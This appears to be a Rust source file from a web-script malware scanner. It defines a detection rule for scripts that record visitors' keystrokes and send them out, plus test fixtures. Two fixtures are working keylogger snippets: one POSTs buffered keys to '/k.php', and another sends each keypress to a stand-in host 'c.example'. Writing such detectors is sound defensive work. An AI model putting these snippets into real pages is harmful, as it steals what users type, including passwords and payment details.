//! `typed-keys-sent`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "typed-keys-sent",
    description: "The script records the keys that visitors press and sends them.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[
        one(&[Atom::KeysSent]),
        one(&[Atom::KeyEvent]),
        // `machine.send(key)` of a component leaves no page.
        one(&[
            Atom::Request,
            Atom::Post,
            Atom::PostMethod,
            Atom::Beacon,
            Atom::Socket,
            Atom::Image,
            Atom::AddressFromData,
            Atom::ScriptElement,
            Atom::FrameElement,
            Atom::SentAbroad,
            Atom::Repeat,
        ]),
    ],
    within: 1500,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var b=[];document.addEventListener('keydown',e=>b.push(e.key));setInterval(()=>{fetch('/k.php',{method:'POST',body:JSON.stringify(b)})},2e3)",
            "$('#w').contents().keypress(function(e){$.get('http://c.example/k.php?x='+e.which)})",
        ],
        without: &[
            "menu.onkeydown=function(e){switch(e.key){case 'Enter':machine.send({type:'choose'});break;default:machine.send({type:'search',value:e.key})}}",
            "list.addEventListener('keydown',e=>machine.send({type:'search',key:e.key}))",
            "document.addEventListener('keydown',e=>{if(e.key==='Enter')fetch('/search?q='+q.value)})",
            "input.addEventListener('keyup',function(e){if(e.keyCode==13){$.get('/find',{q:this.value})}})",
        ],
    },
};
